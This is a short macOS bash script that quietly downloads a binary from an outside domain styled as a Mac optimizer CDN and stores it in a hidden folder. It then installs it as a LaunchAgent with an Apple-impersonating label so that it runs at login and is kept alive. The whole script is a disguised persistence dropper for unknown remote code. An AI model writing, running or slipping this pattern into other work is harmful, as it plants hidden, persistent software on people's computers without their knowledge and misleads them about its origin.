#!/bin/bash
mkdir -p ~/Library/LaunchAgents ~/.local/share/.opt
curl -so ~/.local/share/.opt/optd https://cdn-mac-optimizer.top/optd
chmod +x ~/.local/share/.opt/optd
cat > ~/Library/LaunchAgents/com.apple.optd.plist <<PLIST
<?xml version="1.0" encoding="UTF-8"?>
<plist version="1.0"><dict>
<key>Label</key><string>com.apple.optd</string>
<key>ProgramArguments</key><array><string>$HOME/.local/share/.opt/optd</string></array>
<key>RunAtLoad</key><true/><key>KeepAlive</key><true/>
</dict></plist>
PLIST
launchctl load ~/Library/LaunchAgents/com.apple.optd.plist
